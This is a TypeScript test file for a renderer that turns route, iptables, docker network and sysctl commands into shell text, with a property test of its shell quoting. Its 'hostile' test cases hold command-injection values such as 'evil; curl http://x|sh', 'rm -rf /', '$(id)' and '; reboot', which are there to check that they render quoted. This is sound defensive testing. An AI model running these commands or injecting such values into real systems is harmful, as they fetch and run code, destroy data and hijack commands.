import { execFileSync } from 'node:child_process';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { renderCommand, renderIpBatch, renderRestore, renderRule, shellQuote } from './render.ts';
import { CROSSDOCK_ROUTE_PROTOCOL, MANAGED_LABEL, type Command, type FirewallRule } from './schema.ts';

describe('renderCommand', () => {
  const cases: [Command, string][] = [
    [{ kind: 'route.replace', dst: '10.2.0.0/24', via: '198.51.100.12', dev: 'eth0' }, 'ip route replace 10.2.0.0/24 via 198.51.100.12 dev eth0 proto 252'],
    [{ kind: 'route.replace', dst: '10.2.0.0/24', via: '198.51.100.12', dev: 'a$b' }, "ip route replace 10.2.0.0/24 via 198.51.100.12 dev 'a$b' proto 252"],
    [{ kind: 'route.delete', dst: '10.2.0.0/24' }, 'ip route delete 10.2.0.0/24 proto 252'],
    [
      { kind: 'firewall.jump', table: 'filter', from: 'DOCKER-USER', to: 'CROSSDOCK-FORWARD', position: 1 },
      'iptables -t filter -I DOCKER-USER 1 -j CROSSDOCK-FORWARD',
    ],
    [
      { kind: 'firewall.jump', table: 'nat', from: 'POSTROUTING', to: 'CROSSDOCK-POSTROUTING', position: 2 },
      'iptables -t nat -I POSTROUTING 2 -j CROSSDOCK-POSTROUTING',
    ],
    [
      {
        kind: 'firewall.chain',
        table: 'filter',
        chain: 'CROSSDOCK-FORWARD',
        rules: [
          { source: '10.1.0.0/24', destination: '10.100.0.0/16', comment: 'crossdock peer', target: 'ACCEPT' },
          { destination: '10.1.0.0/24', target: 'ACCEPT' },
        ],
      },
      [
        '*filter',
        ':CROSSDOCK-FORWARD - [0:0]',
        '-F CROSSDOCK-FORWARD',
        '-A CROSSDOCK-FORWARD -s 10.1.0.0/24 -d 10.100.0.0/16 -m comment --comment "crossdock peer" -j ACCEPT',
        '-A CROSSDOCK-FORWARD -d 10.1.0.0/24 -j ACCEPT',
        'COMMIT',
      ].join('\n'),
    ],
    [
      { kind: 'firewall.chain', table: 'nat', chain: 'CROSSDOCK-POSTROUTING', rules: [] },
      '*nat\n:CROSSDOCK-POSTROUTING - [0:0]\n-F CROSSDOCK-POSTROUTING\nCOMMIT',
    ],
    [
      {
        kind: 'docker.network.create',
        name: 'crossdock',
        subnet: '10.1.0.0/24',
        gateway: '10.1.0.1',
        options: { 'com.docker.network.bridge.gateway_mode_ipv4': 'nat-unprotected', 'a.note': "it's here" },
        labels: { 'io.crossdock.subnet': 'sub1' },
      },
      "docker network create --driver bridge --subnet 10.1.0.0/24 --gateway 10.1.0.1 --opt 'a.note=it'\\''s here' " +
        '--opt com.docker.network.bridge.gateway_mode_ipv4=nat-unprotected --label io.crossdock.managed=true --label io.crossdock.subnet=sub1 crossdock',
    ],
    [{ kind: 'docker.network.remove', name: 'crossdock' }, 'docker network rm crossdock'],
    [{ kind: 'docker.daemon.bip', bip: '10.1.0.1/24' }, 'daemon.json: "bip": "10.1.0.1/24" + restart dockerd'],
    [{ kind: 'sysctl.set', key: 'net.ipv4.ip_forward', value: '1' }, 'sysctl -w net.ipv4.ip_forward=1'],
  ];
  it.each(cases)('%j', (command, text) => {
    expect(renderCommand(command)).toBe(text);
  });

  // Commands that reach renderCommand unvalidated (a plan, a stored job) must still render as
  // inert words: no value may end a word, start a new command or expand.
  const EVIL = 'evil; curl http://x|sh';
  const hostile: [Command, string][] = [
    [{ kind: 'docker.network.remove', name: EVIL }, "docker network rm 'evil; curl http://x|sh'"],
    [{ kind: 'docker.network.remove', name: '-f' }, 'docker network rm -- -f'],
    [{ kind: 'docker.network.remove', name: "it's\nrm -rf /" }, "docker network rm 'it'\\''s\nrm -rf /'"],
    [
      { kind: 'docker.network.create', name: EVIL, subnet: '$(id)', gateway: '`id`', options: {}, labels: {} },
      "docker network create --driver bridge --subnet '$(id)' --gateway '`id`' --label io.crossdock.managed=true 'evil; curl http://x|sh'",
    ],
    [{ kind: 'route.delete', dst: '10.9.9.0/24; reboot' }, "ip route delete '10.9.9.0/24; reboot' proto 252"],
    [{ kind: 'route.replace', dst: '10.2.0.0/24', via: '1.2.3.4 dev lo', dev: 'eth0' }, "ip route replace 10.2.0.0/24 via '1.2.3.4 dev lo' dev eth0 proto 252"],
    [
      { kind: 'firewall.jump', table: 'filter; id' as 'filter', from: 'FORWARD', to: 'CROSSDOCK-X|sh' as 'CROSSDOCK-X', position: 1 },
      "iptables -t 'filter; id' -I FORWARD 1 -j 'CROSSDOCK-X|sh'",
    ],
    [{ kind: 'sysctl.set', key: 'net.ipv4.ip_forward', value: '1; reboot' as '1' }, "sysctl -w 'net.ipv4.ip_forward=1; reboot'"],
    [{ kind: 'docker.daemon.bip', bip: '10.1.0.1/24", "x": "$(id)' }, `daemon.json: "bip": '"10.1.0.1/24\\", \\"x\\": \\"$(id)"' + restart dockerd`],
  ];
  it.each(hostile)('quotes every word of %j', (command, text) => {
    expect(renderCommand(command)).toBe(text);
  });

  it('names our route protocol in every route line', () => {
    expect(CROSSDOCK_ROUTE_PROTOCOL).toBe(252);
    expect(MANAGED_LABEL).toBe('io.crossdock.managed');
  });
});

describe('renderRule (iptables-save format)', () => {
  const cases: [FirewallRule, string][] = [
    [{ target: 'ACCEPT' }, '-A CROSSDOCK-FORWARD -j ACCEPT'],
    [{ source: '10.1.0.0/24', target: 'RETURN' }, '-A CROSSDOCK-FORWARD -s 10.1.0.0/24 -j RETURN'],
    [{ source: '10.1.0.7/32', target: 'DROP' }, '-A CROSSDOCK-FORWARD -s 10.1.0.7/32 -j DROP'],
    // iptables-save orders -s -d -i -o whatever order the fields come in
    [
      { target: 'ACCEPT', outInterface: 'br-1', inInterface: 'eth0', destination: '10.100.0.0/16', source: '10.1.0.0/24' },
      '-A CROSSDOCK-FORWARD -s 10.1.0.0/24 -d 10.100.0.0/16 -i eth0 -o br-1 -j ACCEPT',
    ],
    [{ comment: 'abc', target: 'ACCEPT' }, '-A CROSSDOCK-FORWARD -m comment --comment abc -j ACCEPT'],
    [{ comment: 'a_b-9', target: 'ACCEPT' }, '-A CROSSDOCK-FORWARD -m comment --comment a_b-9 -j ACCEPT'],
    [{ comment: 'a.b', target: 'ACCEPT' }, '-A CROSSDOCK-FORWARD -m comment --comment "a.b" -j ACCEPT'],
    [{ comment: 'a/b:c', target: 'ACCEPT' }, '-A CROSSDOCK-FORWARD -m comment --comment "a/b:c" -j ACCEPT'],
    [{ comment: ' lead  two ', target: 'ACCEPT' }, '-A CROSSDOCK-FORWARD -m comment --comment " lead  two " -j ACCEPT'],
    [
      { source: '10.1.0.0/24', outInterface: 'eth0', comment: 'x', target: 'RETURN' },
      '-A CROSSDOCK-FORWARD -s 10.1.0.0/24 -o eth0 -m comment --comment x -j RETURN',
    ],
  ];
  it.each(cases)('%j', (rule, line) => {
    expect(renderRule('CROSSDOCK-FORWARD', rule)).toBe(line);
  });
});

describe('renderRestore', () => {
  it('declares, flushes and fills every chain of a table in one COMMIT', () => {
    const text = renderRestore('filter', [
      { chain: 'CROSSDOCK-A', rules: [{ target: 'ACCEPT' }] },
      { chain: 'CROSSDOCK-B', rules: [] },
    ]);
    expect(text).toBe('*filter\n:CROSSDOCK-A - [0:0]\n:CROSSDOCK-B - [0:0]\n-F CROSSDOCK-A\n-A CROSSDOCK-A -j ACCEPT\n-F CROSSDOCK-B\nCOMMIT\n');
  });
});

describe('renderIpBatch', () => {
  it('gives one line per command, deletes limited to our protocol', () => {
    expect(
      renderIpBatch([
        { kind: 'route.replace', dst: '10.2.0.0/24', via: '198.51.100.12', dev: 'eth0' },
        { kind: 'route.delete', dst: '10.3.0.0/24' },
      ]),
    ).toBe('route replace 10.2.0.0/24 via 198.51.100.12 dev eth0 proto 252\nroute delete 10.3.0.0/24 proto 252\n');
  });
  it('is empty for no commands', () => expect(renderIpBatch([])).toBe(''));
});

describe('shellQuote', () => {
  it.each([
    ['eth0', 'eth0'],
    ['a=b', 'a=b'],
    ['a b', "'a b'"],
    ["it's", "'it'\\''s'"],
    ['$HOME', "'$HOME'"],
    ['', "''"],
  ])('%s', (word, quoted) => expect(shellQuote(word)).toBe(quoted));

  it('gives back every word unchanged through a real shell', () => {
    // Any text but NUL, which no argv can hold. One sh run checks a whole batch of words.
    const word = fc
      .string({
        unit: fc.oneof(fc.constantFrom(...'\'"\\$`!*?[]{}();|&<> \t\n#~=-'), fc.string({ unit: 'binary', minLength: 1, maxLength: 1 })),
        maxLength: 24,
      })
      .filter((w) => !w.includes('\0'));
    fc.assert(
      fc.property(fc.array(word, { minLength: 1, maxLength: 40 }), (words) => {
        const out = execFileSync('sh', ['-c', `printf '%s\\0' ${words.map(shellQuote).join(' ')}`], { encoding: 'utf8' });
        expect(out.split('\0').slice(0, -1)).toEqual(words);
      }),
      { numRuns: 40 },
    );
  });
});
